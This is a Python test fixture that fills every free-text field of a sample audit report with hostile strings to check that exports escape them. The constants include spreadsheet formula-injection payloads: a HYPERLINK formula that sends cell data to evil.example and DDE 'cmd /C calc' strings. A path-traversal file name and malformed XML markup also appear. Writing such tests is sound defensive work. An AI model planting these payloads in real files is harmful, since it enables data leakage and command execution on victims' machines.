"""The small audit with text that a spreadsheet, a shell or a browser might act on, in every place a report fills."""

from __future__ import annotations

from dataclasses import replace

from gouji.model import Audit, Note, Source

from tests.render.sample import sample_audit

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
)
MARKUP = "</t></is></c><f>1+1</f>&lt;![CDATA[<x>]]>\x00\x07\ud800\ufffe_x0041_"


def hostile_audit() -> Audit:
    """Every free text of the sample replaced, one after the other, by the texts above."""
    audit = sample_audit()
    texts = (*FORMULAS, MARKUP)
    tables = tuple(
        replace(
            table,
            title=texts[place % len(texts)],
            form=table.form if place else "=1'[x]:*?/\\",
            cells=tuple(
                replace(
                    cell,
                    row=texts[at % len(texts)],
                    row_path=(texts[at % len(texts)],),
                    column_path=(texts[cell.column_index % len(texts)], cell.column),
                    text=cell.text if cell.value is not None else texts[at % len(texts)],
                )
                for at, cell in enumerate(table.cells)
            ),
        )
        for place, table in enumerate(audit.report.tables)
    )
    report = replace(
        audit.report,
        sources=(Source("../../=1+1.pdf", "0" * 64, "application/pdf", 3),),
        department=FORMULAS[0],
        notes=(Note("x", FORMULAS[1]), Note("x", MARKUP)),
        sections=tuple(replace(one, title=FORMULAS[2], number="") for one in audit.report.sections),
        tables=tables,
    )
    return replace(
        audit,
        report=report,
        sentences=tuple(
            replace(one, text=texts[at % len(texts)] + "x" * 40_000 * (at == 0))
            for at, one in enumerate(audit.sentences)
        ),
        claims=tuple(
            replace(one, text=texts[at % len(texts)], subject=texts[-1 - at % len(texts)], basis=FORMULAS[3])
            for at, one in enumerate(audit.claims)
        ),
        reasons=tuple(replace(one, text=FORMULAS[4], cue=MARKUP) for one in audit.reasons),
        checks=tuple(replace(one, message=FORMULAS[5]) for one in audit.checks),
        findings=tuple(
            replace(one, message=texts[at % len(texts)], said=FORMULAS[3], computed=MARKUP)
            for at, one in enumerate(audit.findings)
        ),
    )
